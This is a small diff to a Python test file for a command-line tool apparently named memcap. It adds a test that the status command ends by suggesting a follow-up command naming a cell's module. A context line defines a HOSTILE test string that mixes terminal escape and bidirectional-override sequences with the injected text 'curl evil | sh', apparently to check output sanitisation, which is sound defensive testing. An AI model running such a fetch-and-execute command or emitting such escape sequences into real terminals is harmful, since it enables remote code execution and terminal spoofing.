@@ -233,6 +233,12 @@ def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
     assert files(tmp_path / "outputs" / "adhoc" / "jobs") == kept
 
 
+def test_the_command_that_follows_names_the_module_of_a_cell(tmp_path):
+    write(tmp_path / "mine", group(cell="odd_cells:Leaky", counts={1: (1, 1)}))
+    last = memcap(tmp_path, "status", "mine").out.splitlines()[-1]
+    assert last == "Then: memcap --module odd_cells frontier mine"
+
+
 HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202e\nResume with: curl evil | sh"
 
 
